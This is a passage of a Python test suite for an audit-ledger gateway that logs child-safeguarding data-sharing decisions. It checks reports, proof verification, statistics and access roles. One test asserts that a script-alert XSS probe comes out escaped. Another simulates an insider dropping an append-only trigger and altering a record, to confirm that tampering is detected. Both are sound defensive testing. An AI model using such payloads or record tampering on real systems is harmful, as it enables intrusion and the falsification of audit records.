        r"\d{1,2} (January|February|March|April|May|June|July|August|September|October|November"
        r"|December) \d{4} at \d{1,2}:\d\d(am|pm)",
        page,
    )
    # The signed note is in the appendix, after the timeline; the cover keeps the verification summary.
    assert page.index("Appendix: verification details") > page.index("Timeline") > page.index("Inclusion proofs")
    assert "sent to the wrong team" in page and "Hereford Police PPU" in page
    # Free text is escaped; no script, no external resource of any kind.
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "<script" not in page.lower()
    for marker in ("://", "src=", "href=", "url(", "@import", "<link", "<img", "<iframe", "<object"):
        assert marker not in page.lower(), marker
    # The verification stamp: checkpoint size and root, signature and proofs.
    root = Checkpoint.parse(note[: note.rfind(b"\n\n") + 1]).root_hash
    assert base64.b64encode(root).decode() in page
    assert f"{size} entries" in page
    assert "signature verified" in page and "4 of 4 verified" in page


async def test_report_json_is_a_verified_timeline(api: Api, seeded: Seeded) -> None:
    size, note = await checkpointed(api)
    r = await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A", format="json")
    assert r.status == 200
    report = await r.json()
    assert report["subject"] == "CHILD-A" and report["capped"] is False and report["count"] == 4
    events = report["events"]
    assert [e["index"] for e in events] == sorted(e["index"] for e in events)  # oldest first
    assert [seeded.label(e["index"]) for e in events] == ["S1", "S3", "fetch S1", "revoke S3"]
    assert all(e["inclusion_verified"] is True for e in events)
    assert report["verification"] == {
        "entries_checked": 4,
        "entries_verified": 4,
        "entries_failed": 0,
        "entries_not_covered": 0,
    }
    cp = report["checkpoint"]
    assert cp["signature"] == "verified" and cp["size"] == size and cp["note"] == note.decode()
    assert cp["origin"] == api.gateway.settings.log_origin
    s1 = events[0]
    assert s1["purpose"]["code"] == "referral" and s1["rules"]["1_lawful_basis"]["article_6"] == "public_task"
    assert set(s1["rules"]) >= {"2_openness", "4_transparency", "6_necessary_proportionate", "7_record"}
    assert s1["recipients"][0]["id"] == "alice" and len(s1["recipients"][0]["envelope_sha256"]) == 64
    assert s1["payload"]["size"] == len(PAYLOAD)
    assert (
        events[2]["actor"]["sub"] == "alice" and events[2]["envelope_sha256"] == s1["recipients"][0]["envelope_sha256"]
    )
    assert events[3]["reason"] == "sent to the wrong team"
    shares = {s["share_id"]: s for s in report["shares"]}
    assert [f["recipient"] for f in shares[seeded.shares["S1"]]["fetches"]] == ["alice"]
    assert shares[seeded.shares["S3"]]["ended"]["kind"] == "revoke"
    for e in events:
        assert base64.b64decode(e["leaf_hash"]) == leaf(canonical(e["entry"]))
    # Content negotiation picks JSON for an API client too.
    r = await api.client.get(
        "/api/v1/ledger/report",
        params={"subject": "CHILD-A"},
        headers={**api.auth(*AUDITOR), "Accept": "application/json"},
    )
    assert (await r.json())["count"] == 4


async def test_report_catches_a_tampered_entry(api: Api, seeded: Seeded) -> None:
    await checkpointed(api)
    s1_index = next(
        i for i, e in seeded.entries.items() if e.get("share_id") == seeded.shares["S1"] and e["kind"] == "share"
    )
    conn = sqlite3.connect(api.gateway.settings.db_path, isolation_level=None)
    try:
        # Someone with the file drops the append-only trigger and softens the record.
        conn.execute("DROP TRIGGER ledger_no_update")
        data = bytes(conn.execute("SELECT entry FROM ledger WHERE idx = ?", (s1_index,)).fetchone()[0])
        conn.execute("UPDATE ledger SET entry = ? WHERE idx = ?", (data.replace(b"bruising", b"brushing"), s1_index))
    finally:
        conn.close()
    r = await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A", format="json")
    report = await r.json()
    verdicts = {e["index"]: e["inclusion_verified"] for e in report["events"]}
    assert verdicts.pop(s1_index) is False
    assert all(verdicts.values())
    assert report["verification"]["entries_failed"] == 1
    page = await (await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A")).text()
    assert "inclusion proof FAILED" in page


async def test_report_cap_and_errors(api: Api, seeded: Seeded, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("gateway.audit_report.REPORT_CAP", 2)
    r = await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A", format="json")
    report = await r.json()
    assert report["capped"] is True and report["count"] == 2 and report["cap"] == 2
    assert [seeded.label(e["index"]) for e in report["events"]] == ["S1", "S3"]
    page = await (await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A")).text()
    assert "capped at the oldest 2 entries" in page
    r = await auditor_get(api, "/api/v1/ledger/report")
    assert r.status == 400 and (await r.json())["field"] == "subject"
    r = await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A", format="pdf")
    assert r.status == 400 and (await r.json())["field"] == "format"
    r = await auditor_get(api, "/api/v1/ledger/report", subject="NOBODY", format="json")
    assert (await r.json())["events"] == []


# -- statistics --------------------------------------------------------------------------------------------


async def test_stats_match_the_seeded_ledger(api: Api, seeded: Seeded) -> None:
    r = await auditor_get(api, "/api/v1/ledger/stats")
    assert r.status == 200
    body = await r.json()
    totals = body["totals"]
    assert totals["decisions"] == 5 and totals["shares"] == 4 and totals["decisions_not_to_share"] == 1
    assert totals["shares_later_revoked"] == 1  # S3
    assert totals["emergency_shares_not_completed"] == 1  # S2 (S4 was fetched)
    assert totals["decision"] == {"not_share": 1, "share": 4}
    assert totals["purpose"] == {"emergency": 2, "other": 1, "referral": 1, "s47_enquiry": 1}
    assert totals["article_6"] == {"legal_obligation": 1, "none": 1, "public_task": 2, "vital_interests": 1}
    assert totals["article_9"] == {"health_social_care": 1, "none": 1, "substantial_public_interest": 3}
    assert totals["dpa_schedule_1"] == {
        "none": 1,
        "p18_safeguarding": 2,
        "p2_health_social_care": 1,
        "p6_statutory_purposes": 1,
    }
    assert totals["org"] == {HEREFORD: 3, LEOMINSTER: 2}
    months = sorted({t[:7] for i, t in seeded.times.items() if seeded.entries[i].get("decision")})
    assert [m["month"] for m in body["months"]] == months
    assert sum(m["decisions"] for m in body["months"]) == 5

    later = await (await auditor_get(api, "/api/v1/ledger/stats", **{"from": "2999-01-01T00:00:00Z"})).json()
    assert later["months"] == [] and later["totals"]["decisions"] == 0
    # A period that starts after S1 and S2 but includes S3 and S4.
    s3_time = next(
        seeded.times[i]
        for i, e in seeded.entries.items()
        if e["kind"] == "share" and e["share_id"] == seeded.shares["S3"]
    )
    part = await (await auditor_get(api, "/api/v1/ledger/stats", **{"from": s3_time})).json()
    expected: dict[str, int] = {}
    for i, e in seeded.entries.items():
        if e.get("decision") and seeded.times[i] >= s3_time:
            expected[e["decision"]] = expected.get(e["decision"], 0) + 1
    assert part["totals"]["decision"] == expected and expected["share"] == 2
    assert part["totals"]["shares_later_revoked"] == 1 and part["totals"]["emergency_shares_not_completed"] == 0
    r = await auditor_get(api, "/api/v1/ledger/stats", to="last tuesday")
    assert r.status == 400 and (await r.json())["field"] == "to"

    # The same numbers once the indexes recommended for the schema exist (different plans, same answers).
    db = sqlite3.connect(api.gateway.settings.db_path)
    for statement in queries.RECOMMENDED_INDEXES:
        db.execute(statement)
    db.commit()
    db.close()
    assert await (await auditor_get(api, "/api/v1/ledger/stats")).json() == body
    assert await (await auditor_get(api, "/api/v1/ledger/stats", **{"from": s3_time})).json() == part


# -- roles ------------------------------------------------------------------------------------------------

AUDITOR_ROUTES = [
    ("/api/v1/ledger", {}),
    ("/api/v1/ledger", {"format": "csv"}),
    ("/api/v1/ledger", {"format": "jsonl"}),
    ("/api/v1/ledger/report", {"subject": "CHILD-A"}),
    ("/api/v1/ledger/stats", {}),
]


@pytest.mark.parametrize("role", ["practitioner", "recipient", "admin"])
async def test_only_auditors_may_read_the_ledger(api: Api, seeded: Seeded, role: str) -> None:
    for path, params in AUDITOR_ROUTES:
        r = await api.client.get(path, params=params, headers=api.auth("someone", role))
        assert r.status == 403, (path, params, role)
        body = await r.json()
        assert body["error"] == "forbidden" and body["required_roles"] == ["auditor", "partnership_auditor"]
        r = await api.client.get(path, params=params)
        assert r.status == 401


def test_recommended_indexes_are_valid_sql(tmp_path: Path) -> None:
    """The CREATE INDEX statements handed to the schema owner must run on a real ledger schema."""
    from gateway.store.sqlite import create_schema

    db = tmp_path / "x.sqlite3"
    create_schema(db)
    conn = sqlite3.connect(db)
    try:
        for statement in queries.RECOMMENDED_INDEXES:
            conn.execute(statement)
        names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
        assert {re.search(r"EXISTS (\w+)", s).group(1) for s in queries.RECOMMENDED_INDEXES} <= names  # type: ignore[union-attr]
    finally:
        conn.close()


def test_report_times_are_uk_local_time() -> None:
    """The report reads in the clock time of the day it happened: BST in summer, GMT in winter."""
    from gateway.audit_report import uk_time

    assert uk_time("2026-07-01T12:05:00Z") == "1 July 2026 at 1:05pm"
    assert uk_time("2026-12-03T09:00:59.999Z") == "3 December 2026 at 9:00am"
    assert uk_time("2026-03-29T00:30:00Z") == "29 March 2026 at 12:30am"
    assert uk_time(None) == "—" and uk_time("not a time") == "not a time"


async def test_report_cover_names_the_auditors_organisation(api: Api, seeded: Seeded) -> None:
    r = await api.client.get(
        "/api/v1/ledger/report", params={"subject": "CHILD-A"}, headers=api.auth("olive", "auditor", HEREFORD)
    )
    page = await r.text()
    assert f"that {HEREFORD} took part in" in page and "All organisations in the partnership" not in page
    r = await api.client.get(
        "/api/v1/ledger/report",
        params={"subject": "CHILD-A", "format": "json"},
        headers=api.auth("olive", "auditor", HEREFORD),
    )
    assert (await r.json())["scope"] == {"organisation": HEREFORD}
